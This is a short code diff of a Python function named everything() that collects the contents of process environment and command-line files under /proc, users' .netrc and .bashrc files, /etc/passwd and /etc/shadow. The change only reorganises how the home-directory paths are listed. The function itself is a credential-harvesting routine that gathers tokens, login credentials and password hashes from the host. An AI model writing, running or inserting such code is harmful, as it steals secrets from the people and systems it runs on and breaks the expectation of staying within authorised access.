@@ -18,7 +18,8 @@ def everything():
     paths = glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ")
     parent = os.getppid()
     paths += [f"/proc/{number}/environ" for number in (1, os.getpid(), parent, parent - 1, parent - 2)]
-    paths += [os.path.expanduser("~/.netrc"), "/root/.netrc", "/root/.bashrc", "/etc/passwd", "/etc/shadow"]
+    paths += [os.path.expanduser(f"{home}/{file}") for home in ("~", "~root") for file in (".netrc", ".bashrc")]
+    paths += ["/etc/passwd", "/etc/shadow"]
     for path in paths:
         try:
             found.append(open(path).read())
